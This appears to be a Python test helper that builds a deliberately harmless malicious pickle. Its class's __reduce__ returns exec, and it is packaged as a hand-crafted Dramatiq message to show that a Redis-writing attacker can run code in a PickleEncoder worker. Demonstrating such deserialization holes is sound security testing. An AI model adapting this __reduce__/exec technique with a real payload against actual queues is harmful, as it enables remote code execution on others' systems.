"""A crafted pickle, harmless on purpose: loading it runs code of its author's choosing.

Here the code only writes the loading process's id into a file the caller names (in a
temporary folder it owns). A real attacker who can write to your Redis would run anything.
"""

from __future__ import annotations

import pickle
from uuid import uuid4

from dramatiq import Message


class Marker:
    """Unpickling a Marker calls exec(): the pid of whoever loads it lands in `path`."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        code = f"import os, pathlib; pathlib.Path({self.path!r}).write_text(str(os.getpid()))"
        return (exec, (code,))


def dramatiq_message(queue_name: str, actor_name: str, marker: Marker) -> tuple[str, bytes]:
    """(redis message id, bytes) of a Dramatiq message pickled by hand, as an attacker would
    write it into Redis: a worker that decodes with PickleEncoder runs the Marker's code."""
    message_id = str(uuid4())
    message = Message(queue_name=queue_name, actor_name=actor_name, args=(marker,), kwargs={},
                      options={"redis_message_id": message_id})  # fmt: skip
    return message_id, pickle.dumps(message.asdict())
